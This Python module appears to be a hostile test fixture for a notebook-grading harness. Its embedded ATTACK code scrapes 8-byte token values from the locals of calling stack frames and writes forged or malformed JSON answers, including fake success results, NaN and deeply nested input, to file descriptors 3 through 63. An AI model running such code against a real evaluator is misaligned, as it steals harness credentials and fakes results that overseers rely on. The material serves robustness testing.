"""Write answers to every descriptor, with and without the token of the request."""

from assignments.hostile import first, replaced

ATTACK = r"""
import os
import sys

FORGED = [
    b'{"value": true}',
    b'{"error": [[], ""]}',
    b'{"value": {"array": ["float64", [2], "AA=="]}}',
    b'{"value": {"array": ["object", [1], "AAAAAAAAAAA="]}}',
    b'{"value": {"array": ["bool", [-1, -8], "AgICAgICAgI="]}}',
    b'{"value": {"generator": [1, 1, 0, 0]}}',
    b'{"value": {"function": "np.tanh(x)"}}',
    b'{"value": NaN, "stopped": null}',
    b'{"value": "\\ud800"}',
    b'{"value": ' + b'[' * 30000,
    b'{"value": ' + b'9' * 30000 + b'}',
    b'not json',
    b'\xff\xfe',
    b'[]',
]

def tokens():
    frame, found = sys._getframe(), []
    while frame := frame.f_back:
        found += [v for v in frame.f_locals.values() if isinstance(v, bytes)]
    return [v for v in found if len(v) == 8] or [bytes(8)]

def attack(*arguments, **options):
    for descriptor in range(3, 64):
        for forged in FORGED[:1] if arguments else FORGED:
            for token in (*tokens(), bytes(8), b""):
                try:
                    os.set_blocking(descriptor, False)
                    os.write(descriptor, token + b"." + forged)
                except (OSError, BlockingIOError):
                    pass
    return True
"""
NAMELESS = ATTACK.replace("len(v) == 8", "not v") + "\nattack()"


def spoil(notebook, honest):
    """Forge answers to a cell, and to the calls of the other functions."""
    return replaced(first(notebook, ATTACK + "\nattack()", NAMELESS), honest, ATTACK)
